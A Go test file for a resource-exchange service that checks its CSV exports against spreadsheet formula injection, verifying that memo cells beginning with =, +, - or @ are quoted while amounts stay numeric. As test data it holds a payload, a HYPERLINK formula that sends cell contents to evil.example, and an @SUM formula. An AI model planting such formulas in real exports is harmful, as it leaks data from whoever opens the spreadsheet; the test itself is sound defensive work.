package web_test

import (
	"context"
	"encoding/csv"
	"io"
	"net/http"
	"strconv"
	"strings"
	"testing"

	"github.com/clearhouse/clearhouse/exchange"
	"github.com/clearhouse/clearhouse/identity"
	"github.com/clearhouse/clearhouse/ledger"
)

// TestEveryCSVExportNeutralizesFormulas puts a formula in a grant's memo, settles an
// auction, and reads every CSV export: text cells that begin with =, +, -, @ get a
// quote in front; amounts stay numbers (a debit is still "-500.00").
func TestEveryCSVExportNeutralizesFormulas(t *testing.T) {
	t.Parallel()
	f := newFixture(t)
	f.openMarket()
	ctx := context.Background()
	const memo = `=HYPERLINK("http://evil.example/?x="&A1,"click")`
	if _, err := f.market.Grant(ctx, "-g1", "search", 500*ledger.Dollar, memo); err != nil {
		t.Fatal(err)
	}
	if _, err := f.market.Grant(ctx, "g2", "search", 10*ledger.Dollar, "@SUM(A1:A2)"); err != nil {
		t.Fatal(err)
	}
	owner := f.user("owner@x.io", identity.RoleOwner, "search")
	limit := 50 * ledger.Dollar
	if _, err := f.market.PlaceOrder(ctx, owner, exchange.OrderSpec{Team: "search", Bundles: []exchange.Bundle{{"us-east/cpu": 10}}, Limit: &limit}); err != nil {
		t.Fatal(err)
	}
	if _, err := f.market.Close(ctx, 1); err != nil {
		t.Fatal(err)
	}
	fin := f.token(f.user("fin@x.io", identity.RoleFinance, ""))
	mem := f.token(f.user("mem@x.io", identity.RoleMember, "search"))
	read := func(token, path string) [][]string {
		t.Helper()
		req, _ := http.NewRequest(http.MethodGet, f.srv.URL+path, nil)
		req.Header.Set("Authorization", "Bearer "+token)
		res, err := http.DefaultClient.Do(req)
		if err != nil {
			t.Fatal(err)
		}
		defer res.Body.Close()
		raw, _ := io.ReadAll(res.Body)
		if res.StatusCode != http.StatusOK {
			t.Fatalf("%s: %d %s", path, res.StatusCode, raw)
		}
		recs, err := csv.NewReader(strings.NewReader(string(raw))).ReadAll()
		if err != nil {
			t.Fatalf("%s: %v", path, err)
		}
		return recs
	}
	// column returns the index of a header's column.
	column := func(recs [][]string, name string) int {
		for i, h := range recs[0] {
			if h == name {
				return i
			}
		}
		t.Fatalf("no column %s in %v", name, recs[0])
		return -1
	}
	for _, ex := range []struct{ token, path string }{
		{mem, "/team/statement.csv"},
		{fin, "/finance/teams/search/statement.csv"},
		{fin, "/finance/journal.csv"},
	} {
		recs := read(ex.token, ex.path)
		memoCol, amountCol := column(recs, "memo"), column(recs, "amount")
		var formulas, negatives int
		for _, r := range recs[1:] {
			switch r[memoCol] {
			case "'" + memo, "'@SUM(A1:A2)":
				formulas++
			case memo, "@SUM(A1:A2)":
				t.Errorf("%s: memo written raw: %q", ex.path, r[memoCol])
			}
			if a := r[amountCol]; a != "" {
				if _, err := strconv.ParseFloat(a, 64); err != nil {
					t.Errorf("%s: amount %q is not a number", ex.path, a)
				} else if strings.HasPrefix(a, "-") {
					negatives++
				}
			}
		}
		if formulas < 2 || negatives == 0 {
			t.Errorf("%s: %d neutralized memos (want 2 or more), %d negative amounts (want some):\n%q", ex.path, formulas, negatives, recs)
		}
		if ex.path == "/finance/journal.csv" {
			for _, r := range recs[1:] {
				if k := r[column(recs, "key")]; strings.HasPrefix(k, "-") {
					t.Errorf("journal: key %q written raw", k)
				}
			}
		}
	}
	recs := read(fin, "/finance/auctions/1/settlement.csv")
	if len(recs) != 2 {
		t.Fatalf("settlement CSV: %q", recs)
	}
	for _, name := range []string{"clock_payment", "settled_payment"} {
		if _, err := strconv.ParseFloat(recs[1][column(recs, name)], 64); err != nil {
			t.Errorf("settlement %s %q is not a number", name, recs[1][column(recs, name)])
		}
	}
	if team := recs[1][column(recs, "team")]; team != "search" {
		t.Errorf("settlement team %q changed", team)
	}
}
